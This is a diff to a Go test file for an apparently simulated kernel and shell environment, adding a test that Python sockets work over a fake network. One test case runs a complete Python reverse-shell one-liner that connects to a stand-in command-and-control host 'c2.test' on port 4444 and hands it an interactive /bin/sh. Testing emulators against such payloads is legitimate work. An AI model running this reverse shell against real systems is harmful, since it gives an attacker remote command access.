@@ -1,11 +1,14 @@
 package program_test
 
 import (
+	"net/netip"
 	"strings"
 	"testing"
 
 	"github.com/whalefall/whalefall/internal/kernel"
 	"github.com/whalefall/whalefall/internal/kernel/kerneltest"
+	"github.com/whalefall/whalefall/internal/program"
+	"github.com/whalefall/whalefall/internal/shell"
 )
 
 func TestPython(t *testing.T) {
@@ -53,3 +56,31 @@ func FuzzPython(f *testing.F) {
 }
 
 var _ kernel.Discard
+
+// A socket of Python's is a connection of the world's: what a reverse shell of one
+// line sends and is sent goes over it.
+func TestPythonSocket(t *testing.T) {
+	sent := discard()
+	nw := &kerneltest.Network{Hosts: map[string]netip.Addr{"c2.test": netip.MustParseAddr("203.0.113.9")},
+		Serve: func(netip.AddrPort, string) (kernel.Conn, error) {
+			return &web{r: strings.NewReader("id -un\nexit\n"), sent: sent}, nil
+		}}
+	r := kernel.NewRegistry()
+	program.Register(r)
+	shell.Register(r)
+	w := kerneltest.New(t, r, kerneltest.Options{Network: nw})
+	got := w.Run("", "python3", "-c", `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("c2.test",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);`)
+	if !strings.Contains(sent.String(), "root\n") {
+		t.Errorf("%+v, sent %q", got, sent.String())
+	}
+	for _, x := range []struct{ code, want string }{
+		{"import socket\ns = socket.socket()\ns.connect(('c2.test', 80))\ns.send(b'hi')\nprint(s.recv(6))", "id -un"},
+		{"import os\nprint(os.uname()[0], os.uname().sysname, os.cpu_count() > 0)", "Linux Linux True\n"},
+		{"import math, sys\nx = 4\nprint(f'{x=}', math.floor(2.7), sum(i for i in range(4)), sys.executable)", "x=4 2 6 /usr/bin/python3\n"},
+		{"import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nprint('ok')", "ok\n"},
+	} {
+		if got := w.Run("", "python3", "-c", x.code); !strings.Contains(got.Out, x.want) {
+			t.Errorf("%s\n got %+v", x.code, got)
+		}
+	}
+}
